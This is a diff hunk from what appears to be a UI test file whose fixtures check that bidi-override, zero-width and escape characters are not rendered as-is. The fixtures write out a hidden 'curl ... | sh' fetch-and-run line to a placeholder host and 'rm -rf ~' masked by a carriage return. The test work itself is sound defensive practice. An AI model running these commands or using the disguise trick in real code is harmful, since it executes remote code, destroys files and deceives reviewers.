@@ -19,7 +19,7 @@ import { expectNoSeriousA11yViolations, screenshotBothThemes } from './look'
 /** The finding's hook: RLO, LRI and PDI placed so the `curl` reads as part of the comment; ZWSP and ESC on the next line. */
 const hook = 'npm run -s lint # offline, no network \u202e ; \u2066curl -s https://x.example/p.sh | sh\u2069\necho done\u200b\u001b[8m\n'
 /** Words with a bidi override, a zero-width space and ESC (an SGR that anser consumes in the output, and one it does not: ESC X). */
-const command = "echo \"lint\u202eok\" \"rm\u200b -rf\" \"\u001b[31mred\u001bX\"; printf 'rm -rf ~\\rAll tests passed\\n'"
+const command = 'echo "lint\u202eok" "rm\u200b -rf" "\u001b[31mred\u001bX"; printf \'rm -rf ~\\rAll tests passed\\n\''
 
 /** What must never reach the page as it is: C0 controls but TAB and LF, C1, zero-width and bidi characters, the BOM. */
 // eslint-disable-next-line no-control-regex -- the control characters are what this looks for
